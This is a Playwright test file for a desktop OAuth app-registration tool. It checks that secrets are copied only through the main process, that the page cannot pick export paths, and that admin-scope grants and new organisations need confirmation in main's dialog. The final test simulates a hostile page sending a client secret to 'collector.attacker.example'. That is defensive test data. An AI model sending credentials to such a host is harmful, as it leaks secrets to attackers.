// The window's side of the security review: the Copy of a secret shown once goes through main (and is cleared as every
// copy), and the page cannot choose where main writes a file, through the same bridge the window uses.
import { existsSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { ORCHESTRATOR, fillWizard, openWizard, result } from './wizard';

test("the new secret's Copy puts it on main's clipboard, to be cleared, never through the page", async ({
  app: page,
  desk,
}) => {
  await openWizard(page);
  await fillWizard(page, {
    name: 'Copied through main',
    confidential: true,
    scopes: [{ resource: ORCHESTRATOR, application: ['OR.Jobs'] }],
  });
  await page.getByTestId('submit-application').click();
  const dialog = result(page);
  await expect(dialog).toBeVisible();
  const secret = await dialog.getByTestId('result-secret').locator('input').inputValue();
  expect(desk.clipboard.text).toBe('');

  await dialog.getByTestId('copy-secret').click();
  await expect(page.getByText(`cleared in ${desk.clipboardClearAfterSeconds} seconds`)).toBeVisible();
  // The clipboard main writes to (and clears) holds it: the page's own clipboard was not used.
  expect(desk.clipboard.text).toBe(secret);
});

test('the page cannot choose the path of an export: refused at the door, naming the field, nothing written', async ({
  app: page,
  desk,
}) => {
  const { app } = await desk.call('createApp', {
    name: 'Exported from the page',
    isConfidential: true,
    scopes: [{ name: 'OR.Jobs', type: 'application' }],
  });
  const target = `${desk.exportsDir}/chosen-by-the-page.md`;
  const answer = await page.evaluate(
    ([clientId, path]) =>
      (window as unknown as { api: { exportHandoff(input: unknown): Promise<unknown> } }).api.exportHandoff({
        clientId,
        format: 'md',
        path,
      }),
    [app.id, target] as const,
  );
  expect(answer).toMatchObject({ ok: false, error: { code: 'invalid_input', issues: [{ field: 'path' }] } });
  expect(desk.savedPaths).toEqual([]);
  expect(existsSync(target)).toBe(false);
});

async function registerAdminGrade(page: Page, name: string): Promise<void> {
  await openWizard(page);
  await fillWizard(page, {
    name,
    confidential: true,
    scopes: [{ resource: 'Platform Management API Access', application: ['PM.OAuthApp'] }],
  });
  await page.getByTestId('submit-application').click();
}

test("the window's createApp granting PM.OAuthApp as an application scope, declined in main's dialog, creates nothing", async ({
  app: page,
  desk,
}) => {
  desk.confirmAnswer = false;
  await registerAdminGrade(page, 'Minted from the window');
  // Main's stand-in dialog was asked, naming the organisation and the scope; the page drew nothing of it.
  await expect.poll(() => desk.confirmations.length).toBe(1);
  expect(desk.confirmations[0]?.message).toBe(
    'Give “Minted from the window” PM.OAuthApp as application scopes in Local Identity Server?',
  );
  await expect(
    page
      .getByText(
        /Granting PM\.OAuthApp as application scopes in Local Identity Server needs your confirmation, which was not given/,
      )
      .first(),
  ).toBeVisible();
  expect((await desk.call('listApps', { refresh: true })).map((a) => a.name)).not.toContain('Minted from the window');
});

test("the window's createApp granting PM.OAuthApp, confirmed in main's dialog, never shows the secret", async ({
  app: page,
  desk,
}) => {
  await registerAdminGrade(page, 'Confirmed from the window');
  const dialog = result(page);
  await expect(dialog).toBeVisible();
  expect(desk.confirmations.map((c) => c.message)).toEqual([
    'Give “Confirmed from the window” PM.OAuthApp as application scopes in Local Identity Server?',
  ]);
  await expect(dialog.getByTestId('secret-withheld')).toContainText('kept in your keychain only');
  await expect(dialog.getByTestId('keychain-saved')).toBeVisible();
  await expect(dialog.getByTestId('result-secret')).toHaveCount(0);
});

test('adding an organisation from the window asks main, naming the host, before anything is sent', async ({
  app: page,
  desk,
}) => {
  desk.confirmAnswer = false;
  const answer = await page.evaluate(() =>
    (window as unknown as { api: { addOrganisation(input: unknown): Promise<unknown> } }).api.addOrganisation({
      id: 'exfiltration',
      baseUrl: 'https://collector.attacker.example',
      orgName: 'acme',
      signIn: { method: 'adminApp', clientId: 'admin', clientSecret: 'sent-by-the-page' },
    }),
  );
  expect(answer).toMatchObject({ ok: false, error: { code: 'invalid_input', issues: [{ field: 'baseUrl' }] } });
  expect(desk.confirmations.map((c) => c.host)).toEqual(['collector.attacker.example']);
  expect(desk.confirmations[0]?.message).toBe('Add the organisation acme at collector.attacker.example?');
});
